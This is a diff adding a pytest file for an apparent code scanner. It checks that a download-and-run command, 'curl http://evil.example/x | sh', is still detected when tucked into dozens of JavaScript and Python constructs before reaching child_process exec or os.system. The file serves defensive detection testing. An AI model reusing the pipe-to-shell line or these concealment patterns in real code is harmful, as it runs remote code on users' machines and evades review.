@@ -1,0 +1,96 @@
+"""A command is told wherever it was put: in lists, objects, tables, classes, arguments, texts of JSON."""
+
+from __future__ import annotations
+
+from string import Template
+
+import pytest
+
+from tests.readers.test_padding import names, told
+
+COMMAND = "curl http://evil.example/x | sh"
+#: `$c` is the command, `$e` starts it.
+JAVASCRIPT = """
+const a = ['ls', '$c']; $e(a[i]);
+const a = { x: 'ls', y: '$c' }; $e(a[k]);
+const a = { win32: 'dir', linux: '$c' }; $e(a[process.platform]);
+const a = new Map([['x', 'ls'], ['y', '$c']]); $e(a.get(k));
+const a = ['ls', '$c']; $e(a.pop());
+const [x, y] = ['ls', '$c']; $e(y);
+const { x, y } = { x: 'ls', y: '$c' }; $e(y);
+const a = { b: { c: '$c' } }; $e(a.b.c);
+const a = [{ c: 'ls' }, { c: '$c' }]; for (const o of a) $e(o.c);
+[{ c: 'ls' }, { c: '$c' }].forEach((o) => $e(o.c));
+for (const [n, c] of [['a', 'ls'], ['b', '$c']]) $e(c);
+for (const [k, c] of Object.entries({ a: 'ls', b: '$c' })) $e(c);
+Object.values({ a: 'ls', b: '$c' }).forEach((c) => $e(c));
+['ls', '$c'].map((c) => $e(c));
+$e(['ls', '$c'].find((x) => x.length > 4));
+$e(['ls', '$c'].at(-1));
+class A { static c = '$c'; } $e(A.c);
+class A { c = '$c'; go() { $e(this.c); } } new A().go();
+const o = { get c() { return '$c'; } }; $e(o.c);
+const make = (c) => () => $e(c); make('ls')(); make('$c')();
+function f(o) { $e(o.c); } f({ c: 'ls' }); f({ c: '$c' });
+function f({ c }) { $e(c); } f({ c: 'ls' }); f({ c: '$c' });
+async function g() { return '$c'; } (async () => $e(await g()))();
+Promise.resolve('$c').then((c) => $e(c));
+let c; c ??= '$c'; $e(c);
+const f = (k) => { switch (k) { case 1: return 'ls'; default: return '$c'; } }; $e(f(1));
+let c; try { c = 'ls'; } catch (e) { c = '$c'; } $e(c);
+$e(JSON.parse('{"c":"$c"}').c);
+$e('ls,$c'.split(',')[1]);
+const k = 'y'; const o = { [k]: '$c' }; $e(o.y);
+const o = Object.freeze({ c: '$c' }); $e(o.c);
+const o = Object.assign({}, { c: '$c' }); $e(o.c);
+const b = { c: '$c' }; const o = { a: 1, ...b }; $e(o.c);
+"""
+PYTHON = """
+a = ['ls', '$c']; $e(a[i])
+a = {'x': 'ls', 'y': '$c'}; $e(a[k])
+a = {'x': 'ls', 'y': '$c'}; $e(a.get('y'))
+a = {'x': 'ls', 'y': '$c'}; $e(a.get(k))
+a = ['ls', '$c']; $e(a.pop())
+[$e(c) for k, c in {'x': 'ls', 'y': '$c'}.items()]
+[$e(c) for c in {'x': 'ls', 'y': '$c'}.values()]
+[$e(c) for n, c in [('a', 'ls'), ('b', '$c')]]
+[$e(o['c']) for o in [{'c': 'ls'}, {'c': '$c'}]]
+list(map($e, ['ls', '$c']))
+[$e(c) for i, c in enumerate(['ls', '$c'])]
+[$e(c) for a, c in zip([1, 2], ['ls', '$c'])]
+$e(max(['ls', '$c'], key=len))
+import random; $e(random.choice(['ls', '$c']))
+f = lambda c: $e(c); f('ls'); f('$c')
+import functools; functools.partial($e, '$c')()
+import json; $e(json.loads('{"c": "$c"}')['c'])
+$e('ls,$c'.split(',')[1])
+import types; o = types.SimpleNamespace(c='$c'); $e(o.c)
+$e('curl {u} | sh'.format(**{'u': 'http://evil.example/x'}))
+$e('curl %(u)s | sh' % {'u': 'http://evil.example/x'})
+a = {'x': 'ls', **{'y': '$c'}}; $e(a['y'])
+"""
+FUNCTIONS = """
+def f(**k): $e(k['c'])|f(c='$c')
+def f(*a): $e(a[0])|f('ls')|f('$c')
+def f(o): $e(o['c'])|f({'c': 'ls'})|f({'c': '$c'})
+def f(c): $e(c)|list(map(f, ['ls', '$c']))
+def make(c):|    def go(): $e(c)|    return go|make('ls')()|make('$c')()
+class A:|    def __init__(self, c): self.c = c|    def go(self): $e(self.c)|A('ls').go()|A('$c').go()
+class A:|    @property|    def c(self): return '$c'|$e(A().c)
+for c in ['ls', '$c']:|    $e(c)
+try:|    c = 'ls'|except E:|    c = '$c'|$e(c)
+"""
+
+
+@pytest.mark.parametrize("line", JAVASCRIPT.strip().splitlines())
+def test_a_script_hides_none(line: str) -> None:
+    text = Template(line).substitute(c=COMMAND, e="cp.exec")
+    found = names(told("a.js", f"const cp = require('child_process');\n{text}\n"))
+    assert ("download-and-run", "evil.example -> sh") in found
+
+
+@pytest.mark.parametrize("line", [*PYTHON.strip().splitlines(), *FUNCTIONS.strip().splitlines()])
+def test_a_module_hides_none(line: str) -> None:
+    text = Template(line).safe_substitute(c=COMMAND, e="os.system")
+    lines = text.replace("| sh", "\0").replace("|", "\n").replace("\0", "| sh")
+    assert ("download-and-run", "evil.example -> sh") in names(told("a.py", f"import os\n{lines}\n"))
